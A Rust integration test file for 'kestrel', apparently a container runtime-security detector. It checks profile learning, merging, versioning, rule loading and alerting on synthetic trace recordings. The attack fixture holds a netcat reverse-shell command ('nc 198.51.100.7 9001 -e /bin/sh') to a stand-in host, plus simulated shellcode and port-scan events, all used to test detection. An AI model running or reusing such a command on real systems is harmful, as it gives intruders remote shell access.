//! `kestrel rules`, `learn`, `detect` and `profile` end to end on recordings written by the test (no root):
//! three nodes learn the same workload, one of them poisoned; the merged profile and the rules catch the
//! attack, and the profile commands list, switch and roll back versions.

use assert_cmd::Command;
use serde_json::{json, Value};
use std::path::Path;

fn kestrel() -> Command {
    Command::cargo_bin("kestrel").unwrap()
}

/// A recording (plain JSON lines) of `containers`, each doing `work`.
fn recording(path: &Path, containers: &[&str], work: &[Value], t0: u64) {
    let mut lines =
        vec![json!({"schema": "kestrel.trace/v1", "started_ns": t0, "labels": {"image": "web"}}).to_string()];
    let mut t = t0;
    for (ci, c) in containers.iter().enumerate() {
        for (i, w) in work.iter().enumerate() {
            t += 1_000_000;
            let mut e = json!({"schema": "kestrel.event/v1", "time_ns": t, "pid": 100 + ci * 100 + i, "tid": 100 + ci * 100 + i,
                "comm": w["comm"], "cgroup_id": 1, "container": {"id": c, "runtime": "runc"}});
            for (k, v) in w.as_object().unwrap() {
                if k != "comm" {
                    e[k] = v.clone();
                }
            }
            lines.push(e.to_string());
        }
    }
    std::fs::write(path, lines.join("\n") + "\n").unwrap();
}

fn exec(comm: &str, argv: &[&str]) -> Value {
    json!({"comm": comm, "kind": "exec", "ppid": 1, "parent_comm": "runc", "uid": 0, "gid": 0, "euid": 0,
        "exe": argv[0], "argv": argv, "cap_effective": 0})
}

fn normal() -> Vec<Value> {
    vec![
        exec("nginx", &["/usr/sbin/nginx", "-g", "daemon off;"]),
        json!({"comm": "nginx", "kind": "open", "path": "/var/log/nginx/access.log", "flags": 0o2101}),
        json!({"comm": "nginx", "kind": "accept", "from": {"family": "inet", "addr": "127.0.0.1", "port": 50000}, "port": 8080}),
    ]
}

fn attack() -> Vec<Value> {
    vec![
        exec("nc", &["/bin/nc", "198.51.100.7", "9001", "-e", "/bin/sh"]),
        json!({"comm": "nc", "kind": "connect", "to": {"family": "inet", "addr": "198.51.100.7", "port": 9001}}),
    ]
}

#[test]
fn rules_report_what_is_supported() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("r.yaml");
    std::fs::write(
        &f,
        "- rule: A\n  condition: evt.type = execve and proc.name = sh\n  output: x\n  priority: WARNING\n\
         - rule: B\n  condition: evt.type = execve and container.mount.source[/proc] = /proc\n  output: x\n  priority: WARNING\n",
    )
    .unwrap();
    let out = kestrel().args(["rules", "--no-builtin"]).arg(&f).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with("2 rules: 1 loaded"), "{text}");
    assert!(text.contains("B: fields not supported: container.mount.source"), "{text}");
    let out = kestrel().args(["rules", "-f", "json"]).arg(&f).output().unwrap();
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r["loaded"], 39, "the 38 built-in rules and A: {r:#}");
    assert_eq!(r["missing_fields"]["container.mount.source"], json!(["B"]));
    // A file that is not a rule file is an error naming it.
    std::fs::write(&f, "just: a mapping\n").unwrap();
    let out = kestrel().args(["rules"]).arg(&f).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("r.yaml"));
}

#[test]
fn a_directory_of_rule_files_loads_in_name_order() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("rules.d");
    std::fs::create_dir(&d).unwrap();
    // 20- turns off the rule 10- defines (a local override, Falco's habit): only in that order.
    std::fs::write(
        d.join("10-rules.yaml"),
        "- rule: Shell\n  condition: evt.type = execve and proc.name = sh\n  output: x\n  priority: WARNING\n",
    )
    .unwrap();
    std::fs::write(d.join("20-local.yml"), "- rule: Shell\n  enabled: false\n").unwrap();
    std::fs::write(d.join("README.md"), "not a rule file").unwrap();
    let out = kestrel().args(["rules", "--no-builtin"]).arg(&d).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(out.status.success() && text.starts_with("1 rule: 0 loaded and enabled"), "{text}");
    assert!(text.contains("1 disabled by their files") && !text.contains("problem"), "{text}");
    // With the built-in rules beside them (their macros are there to use), the count says how many are kestrel's.
    let out = kestrel().arg("rules").arg(&d).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let first = text.lines().next().unwrap_or_default();
    assert!(first.contains("built-in ones among them; --no-builtin leaves those out)"), "{text}");
    // A directory without rule files: said.
    let empty = dir.path().join("empty.d");
    std::fs::create_dir(&empty).unwrap();
    let out = kestrel().args(["rules", "--no-builtin"]).arg(&empty).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("empty.d: no rule files"));
}

#[test]
fn three_nodes_learn_merge_and_detect() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    // Nodes 1 and 2 learn normal work on two replicas each; node 3's replicas also ran the attack.
    for node in 1..=3 {
        let mut work = normal();
        if node == 3 {
            work.extend(attack());
        }
        let rec = d.join(format!("node{node}.jsonl"));
        recording(&rec, &[&format!("n{node}-a"), &format!("n{node}-b")], &work, 1_000);
        kestrel()
            .args(["learn", "-q", "--workload-by", "label", "--mode", "monitor", "--profiles"])
            .arg(d.join(format!("p{node}")))
            .arg(&rec)
            .assert()
            .success();
    }
    // The profile file's name carries a hash: find it.
    let file = |n: u32| {
        std::fs::read_dir(d.join(format!("p{n}")))
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| !p.file_name().unwrap().to_str().unwrap().contains(".v"))
            .unwrap()
    };
    kestrel()
        .args(["profile", "merge", "-k", "2", "--profiles"])
        .arg(d.join("merged"))
        .args((1..=3).map(|n| format!("node-{n}={}", file(n).display())))
        .assert()
        .success();
    let out = kestrel().args(["profile", "list", "-f", "json", "--profiles"]).arg(d.join("merged")).output().unwrap();
    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(list[0]["workload"], "web");
    assert_eq!(list[0]["containers"], 3, "three nodes: {list:#}");
    assert_eq!(list[0]["mode"], "monitor");

    // The attack on a fresh replica: the merged profile alone flags it (node 3 could not teach it)…
    let attack_rec = d.join("attack.jsonl");
    let mut work = normal();
    work.extend(attack());
    recording(&attack_rec, &["fresh"], &work, 9_000_000_000);
    let out = kestrel()
        .args(["detect", "-q", "-f", "json", "--no-builtin-rules", "--workload-by", "label", "--profiles"])
        .arg(d.join("merged"))
        .arg(&attack_rec)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let alerts: Vec<Value> =
        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(!alerts.is_empty());
    assert!(alerts.iter().all(|a| a["schema"] == "kestrel.alert/v1" && a["source"]["type"] == "model"), "{alerts:#?}");
    assert!(alerts.iter().any(|a| a["title"].as_str().unwrap().contains("exec /bin/nc")), "{alerts:#?}");
    // … while the same attack through node 3's own profile is quiet: it learned it.
    let out = kestrel()
        .args(["detect", "-q", "-f", "json", "--no-builtin-rules", "--workload-by", "label", "--profiles"])
        .arg(d.join("p3"))
        .arg(&attack_rec)
        .output()
        .unwrap();
    assert!(out.stdout.is_empty(), "{}", String::from_utf8_lossy(&out.stdout));
    // The rules catch it regardless of any profile.
    let out = kestrel().args(["detect", "-q", "-f", "json", "--no-profiles"]).arg(&attack_rec).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Network tool running a program"), "{text}");
    // A --profiles that holds none (mistyped, or nothing learned yet) is said, not run past in silence.
    let out =
        kestrel().args(["detect", "-f", "json", "--profiles"]).arg(d.join("p-typo")).arg(&attack_rec).output().unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("no learned profiles in") && said.contains("p-typo (no such directory)"), "{said}");
    let out = kestrel().args(["detect", "-f", "json", "--no-profiles"]).arg(&attack_rec).output().unwrap();
    assert!(!String::from_utf8_lossy(&out.stderr).contains("no learned profiles"));

    // Modes and versions.
    let merged = d.join("merged");
    kestrel().args(["profile", "mode", "web", "protect", "--profiles"]).arg(&merged).assert().success();
    kestrel().args(["profile", "relearn", "web", "--profiles"]).arg(&merged).assert().success();
    let out = kestrel().args(["profile", "list", "-f", "json", "--profiles"]).arg(&merged).output().unwrap();
    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!((list[0]["version"].as_u64(), list[0]["mode"].as_str()), (Some(3), Some("learn")));
    assert_eq!(list[0]["versions"], json!([2, 3]));
    kestrel().args(["profile", "rollback", "web", "2", "--profiles"]).arg(&merged).assert().success();
    let out = kestrel().args(["profile", "list", "-f", "json", "--profiles"]).arg(&merged).output().unwrap();
    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!((list[0]["version"].as_u64(), list[0]["mode"].as_str()), (Some(2), Some("protect")));
}

#[test]
fn listing_a_directory_without_profiles_says_so() {
    let d = tempfile::tempdir().unwrap();
    let missing = d.path().join("nothing-here");
    let out = kestrel().args(["profile", "list", "--profiles"]).arg(&missing).output().unwrap();
    assert!(out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("nothing-here: does not exist"), "{err}");
    let out = kestrel().args(["profile", "list", "--profiles"]).arg(d.path()).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("holds no profiles"));
}

#[test]
fn a_node_without_a_server_posts_its_alerts_to_a_webhook() {
    let dir = tempfile::tempdir().unwrap();
    let rec = dir.path().join("attack.jsonl");
    let mut work = normal();
    work.extend(attack());
    recording(&rec, &["c1"], &work, 1_000_000_000);
    let hook = kestrel_testkit::services::Webhook::start(vec![], std::time::Duration::ZERO);
    let out = kestrel()
        .env_remove("KESTREL_NOTIFY")
        .args(["detect", "-q", "--no-profiles", "-f", "json", "--node", "edge-7", "--notify"])
        .arg(format!("http://{}/siem", hook.addr))
        .arg(&rec)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let printed: Vec<Value> =
        String::from_utf8(out.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let serious: Vec<&Value> =
        printed.iter().filter(|a| ["high", "critical"].contains(&a["severity"].as_str().unwrap())).collect();
    assert!(!serious.is_empty(), "{printed:?}");
    // Posted before detect exits: it waits for its notifications to go out.
    let got = hook.received();
    assert_eq!(got.len(), serious.len(), "{got:?}");
    assert!(got.iter().all(|(_, b)| b["node"] == "edge-7" && b["schema"] == "kestrel.notification/v1"));
}

/// A profile that learned and trusts nothing yet (each container its own workload, a capture shorter than the
/// windows a behaviour must be seen in) is said to, with what makes a behaviour count; one that trusts is not.
#[test]
fn learning_that_trusts_nothing_yet_says_why() {
    let dir = tempfile::tempdir().unwrap();
    let rec = dir.path().join("short.jsonl");
    recording(&rec, &["a", "b", "c"], &normal(), 1_000);
    let learn = |by: &str, profiles: &str| {
        let out = kestrel()
            .args(["learn", "--workload-by", by, "--profiles"])
            .arg(dir.path().join(profiles))
            .arg(&rec)
            .output()
            .unwrap();
        assert!(out.status.success());
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let said = learn("container", "alone");
    assert!(
        said.contains("kestrel: 3 profiles trust nothing yet (a, b, c): a behaviour counts once seen in 2 containers"),
        "{said}"
    );
    assert!(said.contains("in 3 time windows of 600 s"), "{said}");
    let said = learn("label", "together");
    assert!(!said.contains("trust nothing"), "{said}");
}

/// `kestrel learn` profiles at most 4096 workloads and says so, even with `-q`, when a recording holds more
/// (one container a workload here: the last four are not learned from).
#[test]
fn learning_more_workloads_than_kestrel_holds_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let names: Vec<String> = (0..4100).map(|i| format!("c{i}")).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    let rec = dir.path().join("many.jsonl");
    recording(&rec, &names, &[exec("nginx", &["/usr/sbin/nginx"])], 1_000);
    let profiles = dir.path().join("p");
    let out = kestrel()
        .args(["learn", "-q", "--workload-by", "container", "--profiles"])
        .arg(&profiles)
        .arg(&rec)
        .assert()
        .success()
        .get_output()
        .clone();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("4 events of workloads beyond the 4096 profiles kestrel holds were not learned from"),
        "{stderr}"
    );
    let saved = std::fs::read_dir(&profiles)
        .unwrap()
        .filter(|e| !e.as_ref().unwrap().file_name().to_str().unwrap().contains(".v"))
        .count();
    assert_eq!(saved, 4096);
}

/// Two recordings, each a capture of its own: in the first (another image) pid 201 is alive when it ends; in the
/// second, nginx in two containers forks a child that runs a shell — pid 201 in the first container — whose calls
/// up to its exec are flushed as the shell starts. Learned one after the other, the second's profile must be what
/// it is alone: the first capture's pid 201 is not the fork (taken for it, the fork's calls were the runtime's and
/// the first container never showed them).
#[test]
fn each_recording_learned_is_a_capture_of_its_own() {
    let dir = tempfile::tempdir().unwrap();
    let line = |v: Value| v.to_string();
    let event = |t: u64, pid: u32, comm: &str, c: &str, rest: Value| {
        let mut e = json!({"schema": "kestrel.event/v1", "time_ns": t, "pid": pid, "tid": pid, "comm": comm,
            "cgroup_id": 1, "container": {"id": c, "runtime": "runc"}});
        for (k, v) in rest.as_object().unwrap() {
            e[k] = v.clone();
        }
        line(e)
    };
    let header = |image: &str, t0: u64| {
        line(json!({"schema": "kestrel.trace/v1", "started_ns": t0, "labels": {"image": image}}))
    };
    let one = dir.path().join("one.jsonl");
    let mut lines = vec![header("other", 1_000)];
    lines.push(event(2_000, 201, "sleep", "x", exec("sleep", &["/bin/sleep", "1000"])));
    std::fs::write(&one, lines.join("\n") + "\n").unwrap();
    let two = dir.path().join("two.jsonl");
    let mut lines = vec![header("web", 10_000)];
    for (c, nginx, child, t) in [("a", 101, 201, 20_000), ("b", 111, 211, 30_000)] {
        lines.push(event(t, nginx, "nginx", c, exec("nginx", &["/usr/sbin/nginx"])));
        let calls = json!({"kind": "syscalls", "ids": [57, 3, 3, 33, 33, 13, 14, 59], "process": {"ppid": nginx}});
        lines.push(event(t + 1, child, "sh", c, calls));
        let mut sh = exec("sh", &["/bin/sh", "-c", "true"]);
        sh["ppid"] = json!(nginx);
        sh["parent_comm"] = json!("nginx");
        lines.push(event(t + 2, child, "sh", c, sh));
    }
    std::fs::write(&two, lines.join("\n") + "\n").unwrap();
    // kestrel learn: every n-gram of the fork's calls was seen in both containers.
    let profiles = dir.path().join("p");
    kestrel()
        .args(["learn", "-q", "--workload-by", "label", "--profiles"])
        .arg(&profiles)
        .arg(&one)
        .arg(&two)
        .assert()
        .success();
    let web = std::fs::read_dir(&profiles)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            let name = p.file_name().unwrap().to_string_lossy().into_owned();
            name.starts_with("web-") && !name.contains(".v")
        })
        .expect("a web profile");
    let web: Value = serde_json::from_slice(&std::fs::read(web).unwrap()).unwrap();
    let grams = web["grams"].as_array().unwrap();
    assert!(!grams.is_empty(), "{web:#}");
    assert!(grams.iter().all(|g| g["c"].as_array().unwrap().len() == 2), "{grams:#?}");
    // kestrel eval lab learns the same way: the grams are trusted (seen in two containers).
    let out = kestrel().args(["eval", "lab", "--learn"]).arg(&one).arg("--learn").arg(&two).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let baseline = text.lines().find(|l| l.starts_with("profile web")).unwrap_or_else(|| panic!("{text}"));
    assert!(!baseline.contains(" 0 trusted system-call"), "{baseline}");
}

/// A recording's header says which kinds a node may do without its sensor reported (`reports`). Learned from one
/// whose sensor reported memory made executable and directories made, nginx never doing either is learned, and
/// shellcode or a directory made in a fresh replica alerts; learned from one without the probes, neither is judged
/// (every JIT, every directory would be new once a sensor with them watched); from an older recording that does not
/// say, memory made executable (rare) is not known without such an event, and the rest is judged as before.
#[test]
fn what_a_recording_says_its_sensor_reported_is_what_a_profile_judges() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let with_header = |path: &Path, reports: Option<Value>| {
        let text = std::fs::read_to_string(path).unwrap();
        let (first, rest) = text.split_once('\n').unwrap();
        let mut header: Value = serde_json::from_str(first).unwrap();
        if let Some(r) = reports {
            header["reports"] = r;
        }
        std::fs::write(path, format!("{header}\n{rest}")).unwrap();
    };
    let mut work = normal();
    work.push(json!({"comm": "nginx", "kind": "mmap", "path": "/usr/lib/x86_64-linux-gnu/libc.so.6", "prot": 5}));
    let shellcode = json!({"comm": "nginx", "kind": "exec-memory", "call": "mprotect", "prot": 5,
        "region": "anonymous", "length": 4096});
    let mkdir = json!({"comm": "nginx", "kind": "mkdir", "call": "mkdir", "path": "/srv/drop", "mode": 0o755});
    let mut attacked = normal();
    attacked.extend([shellcode, mkdir]);
    let attack = d.join("attack.jsonl");
    recording(&attack, &["fresh"], &attacked, 9_000_000_000);
    // (name, the header's reports, the profile's reported kinds as listed, shellcode judged, mkdir judged)
    for (name, reports, reported, shellcode, mkdir) in [
        ("said", Some(json!(["mmap", "exec-memory", "mkdir"])), json!(["mkdir", "mmap", "exec-memory"]), true, true),
        ("left-out", Some(json!(["mmap", "send"])), json!(["send", "mmap"]), false, false),
        ("older", None, Value::Null, false, true),
    ] {
        let rec = d.join(format!("{name}.jsonl"));
        recording(&rec, &["a", "b", "c"], &work, 1_000);
        with_header(&rec, reports);
        let profiles = d.join(name);
        let learn = kestrel()
            .args(["learn", "--workload-by", "label", "--mode", "monitor", "--profiles"])
            .arg(&profiles)
            .arg(&rec)
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&learn.stderr);
        assert!(learn.status.success(), "{said}");
        // An older recording is named as such.
        assert_eq!(said.contains("did not say which kinds its sensor reported"), name == "older", "{name}: {said}");
        let one_line =
            format!("reported ({}): memory made executable is learned only where it was seen", rec.display());
        assert_eq!(said.contains(&one_line), name == "older", "{name}: {said}");
        // The profile says which kinds its sources reported (null: not said).
        let out = kestrel().args(["profile", "list", "-f", "json", "--profiles"]).arg(&profiles).output().unwrap();
        let list: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(list[0]["reported"], reported, "{name}: {list:#}");
        let out = kestrel()
            .args(["detect", "-q", "-f", "json", "--no-builtin-rules", "--workload-by", "label", "--profiles"])
            .arg(&profiles)
            .arg(&attack)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let text = String::from_utf8_lossy(&out.stdout);
        assert_eq!(text.contains("nginx makes anonymous memory executable"), shellcode, "{name}: {text}");
        assert_eq!(text.contains("make a directory in /srv"), mkdir, "{name}: {text}");
        assert_eq!(text.lines().count(), usize::from(shellcode) + usize::from(mkdir), "{name}: {text}");
    }
}

/// A recording is read once, header and events in one pass: one given as standard input (`-`, compressed or
/// not) or through a pipe (`<(zstdcat …)`, a FIFO here) reads as the file does — by `detect`, `learn` and
/// `eval lab`, which once opened each file twice (its header first) and so lost a pipe's first lines.
#[test]
fn a_recording_piped_in_reads_as_the_file_does() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let rec = d.join("attack.jsonl");
    let mut work = normal();
    work.extend(attack());
    recording(&rec, &["fresh"], &work, 1_000);
    let plain = std::fs::read(&rec).unwrap();
    let packed = zstd::encode_all(&plain[..], 3).unwrap();
    let detect = |input: &[u8], arg: &Path| {
        let out = kestrel().args(["detect", "-q", "-f", "json", "--no-profiles"]).arg(arg).write_stdin(input).output();
        let out = out.unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap()
    };
    let from_file = detect(b"", &rec);
    assert!(from_file.contains("Network tool running a program"), "{from_file}");
    assert_eq!(detect(&plain, Path::new("-")), from_file, "plain, on standard input");
    assert_eq!(detect(&packed, Path::new("-")), from_file, "compressed, on standard input");

    // A FIFO, written by another thread while kestrel reads it: what `<(…)` hands a command.
    let fifo = |name: &str, bytes: Vec<u8>| {
        let path = d.join(name);
        assert!(std::process::Command::new("mkfifo").arg(&path).status().unwrap().success());
        let p = path.clone();
        let writer = std::thread::spawn(move || std::fs::write(p, bytes).unwrap());
        (path, writer)
    };
    let (pipe, writer) = fifo("learn.fifo", packed.clone());
    let profiles = d.join("p");
    let out =
        kestrel().args(["learn", "-q", "--workload-by", "label", "--profiles"]).arg(&profiles).arg(&pipe).output();
    let out = out.unwrap();
    writer.join().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = kestrel().args(["profile", "list", "-f", "json", "--profiles"]).arg(&profiles).output().unwrap();
    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(list[0]["workload"], "web", "{list:#}");

    // eval lab: a scenario through a pipe, its name from its header and its attack after the marker.
    let scenario = d.join("scenario.jsonl");
    let mut work = normal();
    work.push(exec("true", &["/bin/true", "kestrel-attack-start"]));
    work.extend(attack());
    recording(&scenario, &["fresh"], &work, 1_000);
    let mut text = String::from_utf8(std::fs::read(&scenario).unwrap()).unwrap();
    text = text.replacen(r#""labels":{"image":"web"}"#, r#""labels":{"image":"web","scenario":"piped"}"#, 1);
    assert!(text.contains("piped"));
    let (pipe, writer) = fifo("scenario.fifo", text.into_bytes());
    let out = kestrel().args(["eval", "lab", "-f", "json", "--learn"]).arg(&rec).arg(&pipe).output().unwrap();
    writer.join().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let row = &report["scenarios"][0];
    assert_eq!(row["scenario"], "piped", "{report:#}");
    assert_eq!(row["rules"]["detected"], true, "{report:#}");
    assert_eq!(report["detected_rules"], 1, "{report:#}");
}

/// Counts that trust a behaviour (`-k`, `-t`) and the window length cannot be zero, and a rollback to a version
/// not kept says which are.
#[test]
fn zero_counts_are_refused_and_a_missing_version_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let rec = dir.path().join("r.jsonl");
    recording(&rec, &["a", "b"], &normal(), 1_000);
    let p = dir.path().join("p");
    for args in [&["learn", "-k", "0"][..], &["learn", "-t", "0"], &["learn", "--window", "0"]] {
        let out = kestrel().args(args).arg("--profiles").arg(&p).arg(&rec).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("must be 1 or more"), "{args:?}");
    }
    assert!(!p.exists(), "nothing learned");
    let out = kestrel().args(["profile", "merge", "-k", "0", "--profiles"]).arg(&p).arg(&rec).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("must be 1 or more"));
    kestrel().args(["learn", "-q", "--workload-by", "label", "--profiles"]).arg(&p).arg(&rec).assert().success();
    let out = kestrel().args(["profile", "rollback", "web", "7", "--profiles"]).arg(&p).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.trim_end().ends_with("no version 7 of \"web\" (kept: v1)"), "{err}");
}

/// `kestrel eval speed` times the rules a deployment would run: the built-in ones by default, a rule file's after
/// them with `--rules`, the file's alone with `--no-builtin-rules` — each line's alert count says which ran.
#[test]
fn eval_speed_times_the_rules_it_is_given() {
    let dir = tempfile::tempdir().unwrap();
    let (learn, scored) = (dir.path().join("learn.jsonl"), dir.path().join("scored.jsonl"));
    recording(&learn, &["a", "b"], &normal(), 1_000_000_000);
    let mut work = normal();
    work.extend(attack());
    recording(&scored, &["c"], &work, 2_000_000_000);
    let rules = dir.path().join("nginx.yaml");
    std::fs::write(
        &rules,
        "- rule: Nginx opens its log\n  desc: every open of the access log\n  condition: evt.type in (open, openat) \
         and proc.name = nginx\n  output: log opened (file=%fd.name)\n  priority: NOTICE\n",
    )
    .unwrap();
    // The `rules` line's alert count, for these options.
    let rule_alerts = |extra: &[&str]| -> u64 {
        let out = kestrel()
            .args(["eval", "speed", "-q", "--min-events", "50", "--learn"])
            .arg(&learn)
            .args(extra)
            .arg(&scored)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{text}{}", String::from_utf8_lossy(&out.stderr));
        let line = text.lines().find(|l| l.starts_with("rules ")).unwrap_or_else(|| panic!("{text}"));
        line.split_whitespace().last().unwrap().parse().unwrap()
    };
    let path = rules.to_str().unwrap();
    // 50 events wanted, 5 a pass: ten passes, each with one log open and one reverse shell.
    let builtin = rule_alerts(&[]);
    let file_alone = rule_alerts(&["--no-builtin-rules", "--rules", path]);
    let both = rule_alerts(&["--rules", path]);
    assert!(builtin >= 10, "the built-in rules catch the reverse shell every pass: {builtin}");
    assert_eq!(file_alone, 10, "the file's rule alone fires on the log open of each pass");
    assert_eq!(both, builtin + 10);
}

#[test]
fn a_storm_of_alike_alerts_goes_out_as_its_first_ten_and_a_summary() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let learn = d.join("learn.jsonl");
    recording(&learn, &["a", "b", "c"], &normal(), 1_000);
    // The same learning monitored (p) and protected (pp, for the response engine's runs below).
    for (profiles, mode) in [("p", "monitor"), ("pp", "protect")] {
        kestrel()
            .args(["learn", "-q", "--workload-by", "label", "--mode", mode, "--profiles"])
            .arg(d.join(profiles))
            .arg(&learn)
            .assert()
            .success();
    }
    // A replica scans 40 ports of a neighbour (each connection a new network behaviour), a shell in the middle.
    let mut work = normal();
    for port in 0..40 {
        if port == 20 {
            work.push(exec("sh", &["/bin/sh"]));
        }
        work.push(json!({"comm": "nginx", "kind": "connect", "to": {"family": "inet", "addr": "10.0.0.9", "port": 1000 + port}}));
    }
    let storm = d.join("storm.jsonl");
    recording(&storm, &["scanner"], &work, 9_000_000_000);
    let detect = |profiles: &str, extra: &[&std::ffi::OsStr]| -> Vec<Value> {
        let out = kestrel()
            .args(["detect", "-q", "-f", "json", "--no-builtin-rules", "--workload-by", "label", "--profiles"])
            .arg(d.join(profiles))
            .args(extra)
            .arg(&storm)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect()
    };
    let network = |alerts: &[Value]| alerts.iter().filter(|a| a["source"]["name"] == "network").count();
    let each = detect("p", &["--fold-after".as_ref(), "0".as_ref()]);
    assert_eq!(network(&each), 40, "{each:#?}");
    assert!(each.iter().all(|a| a.get("folded").is_none()));
    let folded = detect("p", &[]);
    let summaries: Vec<&Value> = folded.iter().filter(|a| a.get("folded").is_some()).collect();
    assert_eq!(network(&folded), 11, "ten and a summary: {folded:#?}");
    assert_eq!(summaries.len(), 1, "{folded:#?}");
    let s = summaries[0];
    assert_eq!(s["folded"]["count"], 30);
    assert_eq!(s["container"]["id"], "scanner");
    assert!(s["title"].as_str().unwrap().starts_with("30 more alerts folded: network behaviour of web"), "{s:#}");
    assert!(s["tags"].as_array().unwrap().contains(&json!("folded")));
    // The shell, another view, was not folded behind the storm.
    assert!(folded.iter().any(|a| a["title"].as_str().unwrap().contains("exec /bin/sh")), "{folded:#?}");
    // What the response engine would do (a dry run) on a protected workload goes out however many: every network
    // alert, while a monitored workload's "not protected" decisions fold as before.
    let policy = d.join("policy.yaml");
    std::fs::write(
        &policy,
        "dry_run: true\nrules:\n  - name: stop scans\n    when: {models: [network]}\n    actions: [stop]\n",
    )
    .unwrap();
    let respond = |profiles: &str| {
        let audit = d.join(format!("audit-{profiles}.jsonl"));
        detect(profiles, &["--respond".as_ref(), policy.as_os_str(), "--audit".as_ref(), audit.as_os_str()])
    };
    assert_eq!(network(&respond("pp")), 40);
    assert_eq!(network(&respond("p")), 11);
    // A window of no time is refused, not taken as "fold nothing".
    kestrel().args(["detect", "--fold-window", "0", "--no-profiles"]).arg(&storm).assert().code(2);
}
